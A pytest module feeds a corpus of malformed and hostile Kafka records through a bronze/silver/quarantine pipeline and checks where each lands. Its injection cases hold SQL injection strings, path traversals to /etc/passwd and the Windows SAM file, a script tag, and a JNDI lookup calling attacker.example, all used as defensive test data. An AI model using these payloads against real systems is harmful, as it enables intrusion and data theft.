"""Hostile input, Kafka -> bronze -> silver + quarantine: a corpus of bad records, each class tested.

Every record is a named case sent as raw bytes (so invalid UTF-8 and tombstones are possible)
with a ``kl-case`` header, interleaved with valid events. After the run each case is found in
bronze by its header and must be in silver with the expected values, or in quarantine with
exactly the expected reasons, its raw bytes and its Kafka coordinates; nothing is lost but the
second copy of an exact duplicate (a resend with other content is quarantined). The stream never
stops and takes new events afterwards.
"""

from __future__ import annotations

import base64
import json
import random
import re
import uuid
from collections import Counter
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pytest

from kappalake.cli import main
from kappalake.config import TriggerConf, load_config
from kappalake.ingest import contracts
from kappalake.ingest.producer import ProduceSpec, make_producer, simulate
from kappalake.ingest.topics import ensure_topics
from kappalake.pipelines.reference import write_reference_tables
from kappalake.pipelines.runner import run_pipelines
from kappalake.quality.quarantine import PAYLOAD_CODES
from tests.conftest import CONF_DIR, as_yaml, config_values
from tests.lake_checks import assert_exactly_once, bronze, header, table

AVAILABLE_NOW = TriggerConf(available_now=True)
PIPELINES = ["bronze_clickstream", "silver_clickstream"]
CASE_HEADER = "kl-case"
MB = 1 << 20
KAFKA_LIMIT = 16 * MB  # topic max.message.bytes and producer max_request_size for this test
PAYLOAD_LIMIT = 256 * 1024  # parse_events' max_payload_bytes
KEY = b"u000001"
RAW = "@@raw@@"  # placeholder for JSON text json.dumps cannot write (NaN, 02, deep nesting)
NOW = datetime.now(timezone.utc)
SILVER_FIELDS = ["event_id", "event_type", "session_id", "app_version", "page", "referrer", "product_id", "price",
                 "quantity", "search_query", "content_id", "error_code", "geo_city", "_rescued_data"]


@dataclass(frozen=True)
class Case:
    """One Kafka record and where it must land: ``reasons`` (quarantine: every entry of ``errors``,
    the first one the ``reason``) or ``parsed`` (silver: column -> value)."""

    name: str
    kind: str
    value: bytes | None
    key: bytes | None = KEY
    reasons: tuple[str, ...] = ()
    parsed: dict[str, Any] = field(default_factory=dict)


def iso(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def js(event: Any, ascii_only: bool = False) -> bytes:
    return json.dumps(event, separators=(",", ":"), ensure_ascii=ascii_only).encode()


def raw(event: dict[str, Any], text: bytes) -> bytes:
    """``event`` as JSON with the value ``RAW`` replaced by ``text`` verbatim."""
    return js(event).replace(json.dumps(RAW).encode(), text)


def nest(depth: int) -> Any:
    return 1 if depth == 0 else {"a": nest(depth - 1)}


def template() -> dict[str, Any]:
    """A simulated add_to_cart event (product, price, quantity), timed a minute ago."""
    cfg = load_config("local", CONF_DIR)
    for ev in simulate(cfg, ProduceSpec("clickstream", count=2000, seed=31)):
        e = ev.event
        if e["event_type"] == "add_to_cart" and e["product_id"]:
            return {**e, "event_time": iso(NOW - timedelta(seconds=60)), "sent_at": iso(NOW - timedelta(seconds=59.9))}
    raise AssertionError("the simulator produced no add_to_cart event")


T = template()


def ev(name: str, drop: tuple[str, ...] = (), geo: dict[str, Any] | None = None, **changes: Any) -> dict[str, Any]:
    """The template with its own event id (from ``name``), ``changes`` applied, ``drop`` removed."""
    e = {**T, "event_id": str(uuid.uuid5(uuid.NAMESPACE_URL, f"kl-case/{name}")), **changes}
    if geo is not None:
        e["geo"] = {**T["geo"], **geo}
    return {k: v for k, v in e.items() if k not in drop}


def bad(name: str, kind: str, value: bytes | None, *reasons: str, key: bytes | None = KEY) -> Case:
    return Case(name, kind, value, key, reasons=reasons)


def good(name: str, kind: str, event: dict[str, Any], payload: bytes | None = None, key: bytes | None = KEY,
         **expected: Any) -> Case:
    """A case that must be parsed: ``expected`` silver values (event_id always; no rescued data
    unless given)."""
    want = {"event_id": event["event_id"], "_rescued_data": None, **expected}
    return Case(name, kind, js(event) if payload is None else payload, key, parsed=want)


def text(name: str, kind: str, column: str, value: str) -> Case:
    """A string stored verbatim in silver (``column`` is the silver column, geo_city for geo.city)."""
    event = ev(name, geo={"city": value}) if column == "geo_city" else ev(name, **{column: value})
    return good(name, kind, event, js(event, ascii_only=True), **{column: value})


def sized(name: str, size: int) -> bytes:
    """A valid event padded with an unknown field to exactly ``size`` bytes."""
    base = js(ev(name, pad=""))
    return js(ev(name, pad="x" * (size - len(base))))


def corpus() -> list[Case]:
    e = ev
    rnd = random.Random(7)
    t_event = T["event_time"]
    cut_utf8 = js(e("truncated_mid_utf8", page="/p/über"))
    missing_all = tuple(f"missing:{f}" for f in contracts.required_fields("clickstream"))
    cases = [
        # Malformed and truncated JSON. Spark's JSON parsers read the first value and ignore what
        # follows; parse_events parses the payload inside [ ] so that trailing text is an error.
        bad("truncated_half", "malformed_json", js(e("truncated_half"))[:300], "malformed_json"),
        bad("truncated_last_brace", "malformed_json", js(e("truncated_last_brace"))[:-1], "malformed_json"),
        bad("truncated_mid_utf8", "malformed_json", cut_utf8[:cut_utf8.index("ü".encode()) + 1],
            "not_utf8", "malformed_json"),
        bad("unclosed_string", "malformed_json", b'{"event_id": "abc', "malformed_json"),
        bad("trailing_comma", "malformed_json", js(e("trailing_comma"))[:-1] + b",}", "malformed_json"),
        bad("single_quotes", "malformed_json", js(e("single_quotes")).replace(b'"', b"'"), "malformed_json"),
        bad("unquoted_keys", "malformed_json", b'{event_id: "x", schema_version: 1}', "malformed_json"),
        bad("comment", "malformed_json", js(e("comment"))[:-1] + b"/* note */}", "malformed_json"),
        bad("leading_zero", "malformed_json", raw(e("leading_zero", quantity=RAW), b"02"), "malformed_json"),
        bad("hex_number", "malformed_json", raw(e("hex_number", quantity=RAW), b"0x10"), "malformed_json"),
        # JSON strings may not hold raw control characters (escaped ones are fine, see below).
        bad("raw_control_char", "malformed_json", js(e("raw_control_char", search_query="a@b")).replace(b"@", b"\x01"),
            "malformed_json"),
        bad("utf8_bom", "malformed_json", b"\xef\xbb\xbf" + js(e("utf8_bom")), "malformed_json"),
        bad("trailing_garbage", "malformed_json", js(e("trailing_garbage")) + b" garbage", "malformed_json"),
        bad("trailing_nul_padding", "malformed_json", js(e("trailing_nul_padding")) + b"\x00" * 16, "malformed_json"),
        bad("two_events_concatenated", "malformed_json", js(e("concat_1")) + js(e("concat_2")), "malformed_json"),
        bad("json_lines", "malformed_json", js(e("lines_1")) + b"\n" + js(e("lines_2")) + b"\n", "malformed_json"),
        bad("two_events_comma", "malformed_json", js(e("comma_1")) + b"," + js(e("comma_2")), "malformed_json"),
        # Jackson (under try_parse_json) refuses numbers of more than 1000 digits.
        bad("number_2000_digits", "malformed_json", raw(e("number_2000_digits", price=RAW), b"1" * 2000),
            "malformed_json"),
        bad("utf16_with_bom", "malformed_json", json.dumps(e("utf16_with_bom")).encode("utf-16"),
            "not_utf8", "malformed_json"),

        # JSON, but not an object.
        bad("array_of_event", "not_an_object", b"[" + js(e("array_of_event")) + b"]", "not_an_object"),
        bad("empty_array", "not_an_object", b"[]", "not_an_object"),
        bad("number", "not_an_object", b"42", "not_an_object"),
        bad("string", "not_an_object", b'"add_to_cart"', "not_an_object"),
        bad("boolean", "not_an_object", b"true", "not_an_object"),
        bad("json_null", "not_an_object", b"null", "not_an_object"),

        # Invalid UTF-8 (the rest of each payload is a valid event: no other error).
        bad("latin1_city", "invalid_utf8", js(e("latin1_city", geo={"city": "Köln"})).replace("ö".encode(), b"\xf6"),
            "not_utf8"),
        bad("overlong_slash", "invalid_utf8", js(e("overlong_slash", page="/a@b")).replace(b"@", b"\xc0\xaf"), "not_utf8"),
        bad("lone_continuation_byte", "invalid_utf8",
            js(e("lone_continuation_byte", search_query="a@")).replace(b"@", b"\x80"), "not_utf8"),
        bad("utf8_encoded_surrogate", "invalid_utf8",
            js(e("utf8_encoded_surrogate", search_query="a@")).replace(b"@", b"\xed\xa0\x80"), "not_utf8"),
        bad("invalid_utf8_field_name", "invalid_utf8", js(e("invalid_utf8_field_name", **{"k@": 1})).replace(b"@", b"\xff"),
            "not_utf8"),

        # Huge payloads: several MB through Kafka; never parsed, quarantined as oversized.
        bad("huge_random_field_5mb", "huge", js(e("huge_random_field_5mb", blob=base64.b64encode(
            rnd.randbytes(15 * MB // 4)).decode())), "oversized"),
        bad("huge_page_3mb", "huge", js(e("huge_page_3mb", page="/" + "a" * 3 * MB)), "oversized"),
        bad("huge_binary_4mb", "huge", rnd.randbytes(4 * MB), "not_utf8", "oversized"),
        bad("huge_nesting_2mb", "huge", b"[" * MB + b"]" * MB, "oversized"),
        bad("just_over_the_limit", "huge", sized("just_over_the_limit", PAYLOAD_LIMIT + 1), "oversized"),
        good("at_the_limit", "huge", e("at_the_limit"), sized("at_the_limit", PAYLOAD_LIMIT),
             _rescued_data={"pad": "x" * (PAYLOAD_LIMIT - len(js(e("at_the_limit", pad=""))))}),
        good("100k_element_array", "huge", e("100k_element_array", samples=[0] * 100_000),
             _rescued_data={"samples": [0] * 100_000}),

        # Deeply nested values.
        good("nested_unknown_200", "deep_nesting", e("nested_unknown_200", tree=nest(200)),
             _rescued_data={"tree": nest(200)}),
        bad("nested_page_500", "deep_nesting", raw(e("nested_page_500", page=RAW), b"[" * 500 + b"]" * 500),
            "wrong_type:page"),
        # Jackson's nesting limit is 1000 levels.
        bad("nested_5000", "deep_nesting", raw(e("nested_5000", tree=RAW), b"[" * 5000 + b"]" * 5000), "malformed_json"),

        # Duplicate keys: Spark's parse_json refuses them (spark.sql.variant.allowDuplicateKeys is
        # false), so try_parse_json gives null: malformed_json, whether the values differ or not.
        bad("duplicate_key", "duplicate_keys", js(e("duplicate_key"))[:-1] + b',"price":1}', "malformed_json"),
        bad("duplicate_key_same_value", "duplicate_keys",
            js(e("duplicate_key_same_value"))[:-1] + b',"event_type":"add_to_cart"}', "malformed_json"),
        bad("duplicate_key_nested", "duplicate_keys", js(e("duplicate_key_nested")).replace(b'"city":', b'"city":"X","city":'),
            "malformed_json"),
        good("keys_differing_in_case", "duplicate_keys", e("keys_differing_in_case", Price=1.5, EVENT_TYPE="purchase"),
             price=T["price"], event_type="add_to_cart", _rescued_data={"Price": 1.5, "EVENT_TYPE": "purchase"}),

        # Numbers as strings, strings as numbers, and other type confusion.
        bad("price_as_string", "types", js(e("price_as_string", price=str(T["price"]))), "wrong_type:price"),
        bad("quantity_as_string", "types", js(e("quantity_as_string", quantity="2")), "wrong_type:quantity"),
        bad("schema_version_as_string", "types", js(e("schema_version_as_string", schema_version="1")),
            "wrong_type:schema_version"),
        bad("lat_as_string", "types", js(e("lat_as_string", geo={"lat": "51.5"})), "wrong_type:geo.lat"),
        bad("user_id_as_number", "types", js(e("user_id_as_number", user_id=42)), "wrong_type:user_id"),
        bad("event_id_as_number", "types", js({**e("event_id_as_number"), "event_id": 123456}), "wrong_type:event_id"),
        bad("page_as_number", "types", js(e("page_as_number", page=404)), "wrong_type:page"),
        bad("quantity_as_boolean", "types", js(e("quantity_as_boolean", quantity=True)), "wrong_type:quantity"),
        bad("price_as_object", "types", js(e("price_as_object", price={"amount": 1})), "wrong_type:price"),
        bad("geo_as_array", "types", js(e("geo_as_array", geo=None) | {"geo": [51.5, -0.1]}), "wrong_type:geo"),
        bad("event_type_as_array", "types", js(e("event_type_as_array", event_type=["add_to_cart"])),
            "wrong_type:event_type"),
        bad("quantity_fraction", "types", js(e("quantity_fraction", quantity=2.5)), "wrong_type:quantity"),
        # JSON Schema counts 2.0 as an integer, and so does the parser.
        good("quantity_integral_float", "types", e("quantity_integral_float"),
             raw(e("quantity_integral_float", quantity=RAW), b"2.0"), quantity=2),
        good("price_with_exponent", "types", e("price_with_exponent"), raw(e("price_with_exponent", price=RAW), b"5.99e1"),
             price=59.9),
        bad("quantity_beyond_int", "types", js(e("quantity_beyond_int", quantity=3_000_000_000)), "range:quantity"),
        bad("quantity_beyond_bigint", "types", js(e("quantity_beyond_bigint", quantity=10**30)), "range:quantity"),
        bad("schema_version_beyond_int", "types", js(e("schema_version_beyond_int", schema_version=2**40)),
            "range:schema_version"),
        # 1e400 is valid JSON but no double: it parses as Infinity.
        bad("price_beyond_double", "types", raw(e("price_beyond_double", price=RAW), b"1e400"), "range:price"),
        bad("lat_beyond_double", "types", raw(e("lat_beyond_double", geo={"lat": RAW}), b"-1e400"), "range:geo.lat"),
        bad("negative_price", "types", js(e("negative_price", price=-1)), "range:price"),
        bad("price_in_the_millions", "types", js(e("price_in_the_millions", price=5e6)), "price_plausible"),

        # NaN and Infinity are not JSON (Jackson's non-numeric numbers are off).
        bad("price_nan", "nan_infinity", raw(e("price_nan", price=RAW), b"NaN"), "malformed_json"),
        bad("price_infinity", "nan_infinity", raw(e("price_infinity", price=RAW), b"Infinity"), "malformed_json"),
        bad("price_minus_infinity", "nan_infinity", raw(e("price_minus_infinity", price=RAW), b"-Infinity"),
            "malformed_json"),
        bad("price_nan_as_string", "nan_infinity", js(e("price_nan_as_string", price="NaN")), "wrong_type:price"),

        # Timestamps: the contract wants UTC with milliseconds; plausible years come from the expectations.
        *[bad(f"ts_{n}", "timestamps", js(e(f"ts_{n}", event_time=v)), "pattern:event_time") for n, v in [
            ("no_millis", t_event[:19] + "Z"), ("space", t_event.replace("T", " ")),
            ("offset", t_event[:23] + "+02:00"), ("micros", t_event[:23] + "456Z"), ("date_only", t_event[:10]),
            ("rfc2822", "Wed, 26 Nov 2025 10:00:00 GMT"), ("epoch_s_text", "1764150000"),
            ("lower_case", t_event.lower()), ("trailing_newline", t_event + "\n"),
            ("year_10000", "+10000-01-01T00:00:00.000Z"), ("negative_year", "-0001-01-01T00:00:00.000Z")]],
        bad("ts_epoch_ms", "timestamps", js(e("ts_epoch_ms", event_time=int(NOW.timestamp() * 1000))),
            "wrong_type:event_time"),
        *[bad(f"ts_{n}", "timestamps", js(e(f"ts_{n}", event_time=v)), "format:event_time") for n, v in [
            ("feb_30", "2026-02-30T10:00:00.000Z"), ("month_13", "2026-13-01T10:00:00.000Z"),
            ("hour_24", "2026-01-01T24:00:00.000Z"), ("leap_second", "2016-12-31T23:59:60.000Z")]],
        # Lateness (sent_at - event_time) over a day is a warning rule; it is listed too.
        *[bad(f"ts_{n}", "timestamps", js(e(f"ts_{n}", event_time=v)), "event_time_plausible", "delivered_within_a_day")
          for n, v in [("year_0", "0000-01-01T00:00:00.000Z"), ("year_1", "0001-01-01T00:00:00.000Z"),
                       ("epoch_1970", "1970-01-01T00:00:00.000Z")]],
        bad("ts_year_9999", "timestamps", js(e("ts_year_9999", event_time="9999-12-31T23:59:59.999Z")),
            "event_time_plausible", "event_time_not_in_future"),
        bad("ts_far_future", "timestamps", js(e("ts_far_future", event_time="2099-12-31T23:59:59.999Z")),
            "event_time_not_in_future"),
        bad("ts_null", "timestamps", js(e("ts_null", event_time=None)), "missing:event_time"),
        bad("sent_at_year_0", "timestamps", js(e("sent_at_year_0", sent_at="0000-01-01T00:00:00.000Z")),
            "sent_at_plausible"),
        bad("sent_at_year_9999", "timestamps", js(e("sent_at_year_9999", sent_at="9999-12-31T23:59:59.999Z")),
            "sent_at_plausible", "delivered_within_a_day"),
        good("sent_before_event_time", "timestamps", e("sent_before_event_time", sent_at=iso(NOW - timedelta(minutes=3)))),

        # Empty and null keys and values.
        bad("tombstone", "empty_null", None, "tombstone"),
        # (kafka-python refuses a record with neither key nor value.)
        bad("tombstone_empty_key", "empty_null", None, "tombstone", key=b""),
        good("null_key", "empty_null", e("null_key"), key=None),
        good("empty_key", "empty_null", e("empty_key"), key=b""),
        good("invalid_utf8_key", "empty_null", e("invalid_utf8_key"), key=b"\xff\xfe\x00"),
        bad("empty_value", "empty_null", b"", "malformed_json"),
        bad("whitespace_value", "empty_null", b" \n\t\r ", "malformed_json"),
        bad("empty_object", "empty_null", b"{}", *missing_all),
        bad("required_null", "empty_null", js(e("required_null", user_id=None)), "missing:user_id"),
        bad("required_absent", "empty_null", js(e("required_absent", drop=("session_id",))), "missing:session_id"),
        # Silver stores blank text as null, so blank required text is missing.
        bad("required_blank", "empty_null", js(e("required_blank", session_id="   ")), "missing:session_id"),
        bad("required_empty", "empty_null", js(e("required_empty", page="")), "missing:page"),
        bad("required_empty_with_pattern", "empty_null", js(e("required_empty_with_pattern", user_id="")),
            "missing:user_id", "pattern:user_id"),
        bad("geo_empty_object", "empty_null", js(e("geo_empty_object", geo=None) | {"geo": {}}),
            "missing:geo.country", "missing:geo.city", "missing:geo.lat", "missing:geo.lon"),
        bad("geo_null", "empty_null", js(e("geo_null", geo=None) | {"geo": None}), "missing:geo"),
        good("optional_blank", "empty_null", e("optional_blank", referrer=""), referrer=None),
        good("optional_absent", "empty_null", e("optional_absent", drop=("browser", "referrer", "search_query",
                                                                           "content_id", "buffer_ms", "error_code"))),
        good("empty_field_name", "empty_null", e("empty_field_name", **{"": "x"}), _rescued_data={"": "x"}),

        # Control characters (escaped in the JSON) are kept as they are; trim removes spaces only.
        text("nul_in_text", "control_chars", "search_query", "a\u0000b"),
        text("ansi_escape", "control_chars", "page", "/p\u001b[2J\u001b[31mred"),
        text("newline_and_tab", "control_chars", "session_id", "s-1\n\t"),
        text("del_and_c1", "control_chars", "content_id", "x\u007f\u0085\u009by"),
        text("line_separators", "control_chars", "search_query", "a\u2028b\u2029c"),
        text("bidi_override", "control_chars", "page", "/p/\u202egnp.exe"),
        text("zero_width", "control_chars", "referrer", "ref\u200b\ufeff"),
        text("astral_emoji", "control_chars", "search_query", "tv \U0001F4FA"),
        # A lone surrogate is no Unicode character: Spark's parser writes "?" instead.
        good("lone_surrogate", "control_chars", e("lone_surrogate"),
             raw(e("lone_surrogate", page=RAW), b'"/p\\ud800x"'), page="/p?x"),
        bad("user_id_trailing_newline", "control_chars", js(e("user_id_trailing_newline", user_id="u000001\n")),
            "pattern:user_id"),
        bad("event_id_trailing_newline", "control_chars",
            js({**e("event_id_trailing_newline"), "event_id": e("event_id_trailing_newline")["event_id"] + "\n"}),
            "pattern:event_id"),
        bad("event_type_with_nul", "control_chars", js(e("event_type_with_nul", event_type="add_to_cart\u0000")),
            "enum:event_type"),
        good("control_char_field_name", "control_chars", e("control_char_field_name", **{"\u0000\u001b": 1}),
             _rescued_data={"\u0000\u001b": 1}),

        # SQL and path fragments are data: stored verbatim, never interpreted.
        text("sql_drop", "injection", "search_query", "'; DROP TABLE silver.clickstream; --"),
        text("sql_tautology", "injection", "referrer", "' OR '1'='1' --"),
        text("sql_in_city", "injection", "geo_city", "Robert'); DROP TABLE Students;--"),
        text("sql_union", "injection", "content_id", "1 UNION SELECT payload FROM quarantine.clickstream"),
        text("spark_identifiers", "injection", "search_query", "`silver`.`clickstream`; SELECT current_user()"),
        text("path_traversal", "injection", "page", "../../../../etc/passwd"),
        text("windows_path", "injection", "page", "..\\..\\windows\\system32\\config\\sam"),
        text("encoded_traversal", "injection", "page", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        text("nul_in_path", "injection", "page", "/product/p0007\u0000.jpg"),
        text("jndi_lookup", "injection", "error_code", "${jndi:ldap://attacker.example/a}"),
        text("html_script", "injection", "app_version", "5.12.0<script>alert(1)</script>"),
        bad("sql_in_product_id", "injection", js(e("sql_in_product_id", product_id="p0001' OR 1=1")),
            "pattern:product_id"),
        bad("sql_in_event_type", "injection", js(e("sql_in_event_type", event_type="purchase'; --")), "enum:event_type"),
        good("sql_field_name", "injection", e("sql_field_name", **{"'; DROP TABLE x; --": 1}),
             _rescued_data={"'; DROP TABLE x; --": 1}),
        good("path_like_field_names", "injection", e("path_like_field_names", **{"geo.lat": 0, "$.event_id": "x"}),
             _rescued_data={"geo.lat": 0, "$.event_id": "x"}),
    ]
    # Schema changes: additive (new fields, also inside geo) are rescued; breaking ones are
    # quarantined, every record of the block with the same reason.
    drift = {"experiment_bucket": 7, "consent_v2": True, "client_hints": {"dpr": 2, "lang": "de"}}
    cases += [good(f"additive_{i}", "schema_additive", e(f"additive_{i}", geo={"accuracy_m": 25}, **drift),
                   _rescued_data={**drift, "geo": {"accuracy_m": 25}}) for i in range(5)]
    cases += [bad(f"schema_v2_{i}", "schema_breaking", js(e(f"schema_v2_{i}", schema_version=2, drop=("price",),
                                                            amount={"value": T["price"], "currency": "EUR"})),
                  "version:2") for i in range(6)]
    cases += [bad(f"price_turns_text_{i}", "schema_breaking", js(e(f"price_turns_text_{i}", price=f"{T['price']:.2f}")),
                  "wrong_type:price") for i in range(6)]
    return cases


def valid_events(seed: int, n: int, prefix: str) -> list[Case]:
    """``n`` simulated events, timed now, each its own case."""
    cfg = load_config("local", CONF_DIR)
    out = []
    for i, ev_ in zip(range(n), simulate(cfg, ProduceSpec("clickstream", count=n, seed=seed))):
        event = {**ev_.event, "event_time": iso(NOW - timedelta(seconds=30)), "sent_at": iso(NOW - timedelta(seconds=29))}
        out.append(good(f"{prefix}_{i}", "valid", event, key=ev_.key.encode(), session_id=event["session_id"],
                        page=event["page"]))
    return out


def interleave(hostile: list[Case], valid: list[Case]) -> list[Case]:
    out, step = [], max(1, len(hostile) // len(valid))
    for i, case in enumerate(hostile):
        if i % step == 0 and valid:
            out.append(valid.pop())
        out.append(case)
    return out + valid


CORPUS = corpus()
VALID = valid_events(41, 30, "valid")
DUPLICATE = VALID[0]  # sent twice, byte for byte: dedup keeps one copy
# Sent after the original: the same event_id, another sent_at; quarantined, the original stays the event.
CONFLICTING = Case("valid_1_changed", "conflicting_resend",
                   js({**json.loads(VALID[1].value), "sent_at": iso(NOW - timedelta(seconds=28))}), VALID[1].key,
                   reasons=("conflicting_resend",))
ROUND_1 = interleave(CORPUS, VALID[1:]) + [VALID[0], Case("valid_0_again", "duplicate", DUPLICATE.value, DUPLICATE.key),
                                           CONFLICTING]
ROUND_2 = valid_events(42, 20, "after")


def send(cfg, cases: list[Case]) -> dict[str, tuple[int, int]]:
    """Send every case as raw bytes, tagged with its name; (partition, offset) per case."""
    producer = make_producer(cfg.kafka_settings, cfg.producer)
    try:
        futures = {c.name: producer.send(cfg.topic_name("clickstream"), key=c.key, value=c.value,
                                         headers=[(CASE_HEADER, c.name.encode())]) for c in cases}
        producer.flush()
        sent = {}
        for name, f in futures.items():
            meta = f.get(timeout=60)
            sent[name] = (meta.partition, meta.offset)
        return sent
    finally:
        producer.close()


@pytest.fixture(scope="module")
def hostile(spark, broker_conf, tmp_path_factory):
    """The corpus and valid events through bronze and silver, then a second round of valid events."""
    assert len({c.name for c in ROUND_1 + ROUND_2}) == len(ROUND_1 + ROUND_2)
    tmp = tmp_path_factory.mktemp("hostile")
    values = config_values(broker_conf, tmp, **{
        # Several-MB records must reach bronze (and quarantine) rather than be refused by Kafka.
        "topics.clickstream.config": {"max.message.bytes": str(KAFKA_LIMIT)},
        "producer.max_request_size": KAFKA_LIMIT,
    })
    cfg = load_config("local", CONF_DIR, overrides=values)
    ensure_topics(cfg.kafka_settings, cfg.topic_specs(["clickstream"]))
    write_reference_tables(spark, cfg)
    coords = send(cfg, ROUND_1)
    first = {r.pipeline: r for r in run_pipelines(spark, cfg, PIPELINES, trigger=AVAILABLE_NOW, timeout=600)}
    counts = {t: table(spark, cfg, t).count() for t in ("silver.clickstream", "quarantine.clickstream")}
    coords |= send(cfg, ROUND_2)
    second = {r.pipeline: r for r in run_pipelines(spark, cfg, PIPELINES, trigger=AVAILABLE_NOW, timeout=300)}
    return {"cfg": cfg, "yaml": as_yaml(values, tmp / "lake.yaml"), "coords": coords, "runs": (first, second),
            "counts_after_first": counts}


@pytest.fixture(scope="module")
def landed(spark, hostile):
    """Per case name: its bronze row, and its silver and quarantine rows (None when not there)."""
    cfg = hostile["cfg"]
    coords = ["topic", "partition", "offset"]
    b = bronze(spark, cfg, "clickstream").select(*coords, "key", "value", "kafka_timestamp", header(CASE_HEADER).alias("case"))
    s = table(spark, cfg, "silver.clickstream").select(*coords, *SILVER_FIELDS)
    q = table(spark, cfg, "quarantine.clickstream")
    rows = {r["case"]: {"bronze": r.asDict()} for r in b.collect()}
    by_coords = {(r["topic"], r["partition"], r["offset"]): r["case"] for r in b.select(*coords, "case").collect()}
    for where, df in (("silver", s), ("quarantine", q)):
        for r in df.collect():
            rows[by_coords[(r["topic"], r["partition"], r["offset"])]][where] = r.asDict()
    return rows


def test_bronze_holds_every_record_once_byte_for_byte(spark, hostile, landed):
    cfg = hostile["cfg"]
    assert_exactly_once(spark, cfg, "clickstream", len(ROUND_1) + len(ROUND_2))
    topic = cfg.topic_name("clickstream")
    for case in ROUND_1 + ROUND_2:
        row = landed[case.name]["bronze"]
        assert (row["topic"], row["partition"], row["offset"]) == (topic, *hostile["coords"][case.name]), case.name
        assert (row["value"], row["key"]) == (case.value, case.key), case.name


def test_the_stream_never_stopped_and_read_everything(hostile):
    first, second = hostile["runs"]
    assert first["bronze_clickstream"].input_rows == len(ROUND_1)
    assert first["silver_clickstream"].input_rows == len(ROUND_1)
    # A second round after the hostile batch: bronze and silver take it, all of it valid.
    assert second["bronze_clickstream"].input_rows == second["silver_clickstream"].input_rows == len(ROUND_2)
    silver_before, quarantine_before = hostile["counts_after_first"].values()
    assert silver_before == sum(1 for c in ROUND_1 if c.parsed)  # one copy of the duplicate (not a case of its own)
    assert quarantine_before == sum(1 for c in ROUND_1 if c.reasons)


def test_each_case_is_parsed_or_quarantined_with_its_reasons(landed):
    wrong = []
    for case in CORPUS + VALID + [CONFLICTING] + ROUND_2:
        got = landed[case.name]
        if case.reasons:
            q = got.get("quarantine")
            if "silver" in got or q is None:
                wrong.append(f"{case.name}: expected quarantine {case.reasons}, in {sorted(set(got) - {'bronze'})}")
            elif q["reason"] != case.reasons[0] or sorted(q["errors"]) != sorted(case.reasons):
                wrong.append(f"{case.name}: expected {list(case.reasons)}, got reason {q['reason']} errors {q['errors']}")
            continue
        s = got.get("silver")
        if "quarantine" in got or s is None:
            if case is not DUPLICATE:
                wrong.append(f"{case.name}: expected in silver, quarantine says {got.get('quarantine', {}).get('errors')}")
            continue
        actual = {**s, "_rescued_data": s["_rescued_data"] and json.loads(s["_rescued_data"])}
        # (money is decimal in silver: 50.26 in the JSON is exactly Decimal("50.26"))
        diff = {k: (v, actual[k]) for k, v in case.parsed.items()
                if actual[k] != (Decimal(str(v)) if isinstance(actual[k], Decimal) else v)}
        if diff:
            wrong.append(f"{case.name}: (expected, got) {diff}")
    assert not wrong, "\n".join(wrong)


def test_only_the_duplicate_copy_is_neither_in_silver_nor_in_quarantine(landed):
    nowhere = sorted(n for n, got in landed.items() if set(got) == {"bronze"})
    both = sorted(n for n, got in landed.items() if {"silver", "quarantine"} <= set(got))
    assert both == []
    assert len(nowhere) == 1 and nowhere[0] in (DUPLICATE.name, "valid_0_again")
    kept = landed[({DUPLICATE.name, "valid_0_again"} - set(nowhere)).pop()]["silver"]
    assert kept["event_id"] == DUPLICATE.parsed["event_id"]


def test_quarantine_rows_keep_the_raw_record_and_say_why(hostile, landed):
    cfg = hostile["cfg"]
    for case in ROUND_1:
        q = landed[case.name].get("quarantine")
        if not case.reasons or q is None:
            continue
        b = landed[case.name]["bronze"]
        assert q["pipeline"] == "silver_clickstream"
        assert (q["topic"], q["partition"], q["offset"]) == (cfg.topic_name("clickstream"), *hostile["coords"][case.name])
        assert q["kafka_timestamp"] == b["kafka_timestamp"]
        assert q["payload"] == case.value, case.name
        assert q["key"] == (None if case.key is None else case.key.decode("utf-8", "replace")), case.name
        stage = ("parse" if q["reason"] in PAYLOAD_CODES else "contract" if ":" in q["reason"] else
                 "dedup" if q["reason"] == "conflicting_resend" else "expectations")
        assert q["stage"] == stage and q["error_text"], (case.name, q["stage"], q["error_text"])


def test_schema_changes_are_rescued_or_reported_by_reason(hostile, landed, capsys):
    for i in range(5):
        assert json.loads(landed[f"additive_{i}"]["silver"]["_rescued_data"])["geo"] == {"accuracy_m": 25}
    assert main(["--config", str(hostile["yaml"]), "quarantine", "show", "--pipeline", "silver_clickstream",
                 "--limit", "1000"]) == 0
    out = capsys.readouterr().out
    # One line of reasons by kind (counted over the whole corpus), then every record with its text.
    summary = re.search(r"^quarantine\.clickstream reasons: (.*)$", out, re.M).group(1)
    reported = {kind: int(n.replace(",", "")) for kind, n in (item.rsplit(" ", 1) for item in summary.split(", "))}
    assert reported == Counter(c.reasons[0].split(":")[0] for c in ROUND_1 if c.reasons)
    topic = hostile["cfg"].topic_name("clickstream")
    lines = {m.group(1): m.group(2) for m in re.finditer(rf"^  {re.escape(topic)}/(\d+@\d+) (.*)$", out, re.M)}
    for name, text_ in [(f"schema_v2_{i}", "[contract] unsupported schema_version 2") for i in range(6)] + \
                       [(f"price_turns_text_{i}", "[contract] price: wrong JSON type") for i in range(6)]:
        partition, offset = hostile["coords"][name]
        assert lines[f"{partition}@{offset}"] == text_, name


def test_memory_stays_bounded(spark, hostile):
    """The run finished within the configured heap (local: 4g driver, executors in the same JVM),
    and after it, with several-MB records read, parsed and written, little of the heap is live."""
    jvm = spark.sparkContext._jvm
    jvm.java.lang.System.gc()
    heap = jvm.java.lang.management.ManagementFactory.getMemoryMXBean().getHeapMemoryUsage()
    assert heap.getUsed() < heap.getMax() / 2, (heap.getUsed() / MB, heap.getMax() / MB)
